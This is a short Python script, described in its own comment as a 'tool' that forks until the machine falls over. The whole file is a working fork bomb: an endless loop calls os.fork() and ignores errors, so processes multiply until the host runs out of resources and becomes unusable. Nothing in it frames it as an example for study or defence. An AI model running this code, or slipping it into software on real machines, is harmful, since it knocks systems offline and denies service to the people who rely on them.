# A "tool" that forks until the machine falls over.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
